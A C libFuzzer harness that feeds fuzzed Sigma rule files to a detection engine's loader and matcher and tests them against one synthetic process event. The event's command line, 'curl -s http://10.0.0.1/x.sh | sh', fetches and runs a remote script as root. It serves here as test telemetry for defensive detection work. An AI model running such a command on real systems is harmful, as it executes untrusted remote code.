/*
 * libFuzzer target: a Sigma rule file, as an operator's --rules directory or
 * a pushed ruleset may hold one. Loads every document, compiles the matcher
 * over what loaded and runs one event through it, so the loader's limits
 * (aliases, condition depth and length, expansion) and the compiler meet the
 * same hostile input.
 */
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include "match.h"
#include "sigma.h"

static FILE *devnull;

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct sigma_ruleset rs;
	if (!devnull)
		devnull = fopen("/dev/null", "w");
	sigma_ruleset_init(&rs);
	sigma_load_text(&rs, "fuzz.yml", (const char *)data, size, false, devnull, true);
	struct matcher *m = matcher_new(&rs);
	if (m) {
		struct imm_event ev;
		memset(&ev, 0, sizeof(ev));
		ev.type = EBPF_EVENT_EXEC;
		ev.outcome = IMM_OUTCOME_SUCCESS;
		ev.executable = ev.filename = ev.path = ev.abs_path = "/usr/bin/curl";
		ev.name = "curl";
		ev.command_line = "curl -s http://10.0.0.1/x.sh | sh";
		ev.cwd = "/tmp";
		ev.parent_executable = "/bin/bash";
		ev.parent_command_line = "bash -i";
		ev.user_name = "root";
		ev.unix_path = ev.transport = "";
		const struct sigma_rule *hits[16];
		matcher_match(m, &ev, hits, 16);
		matcher_match_naive(m, &ev, hits, 16);
		matcher_free(m);
	}
	sigma_ruleset_free(&rs);
	return 0;
}
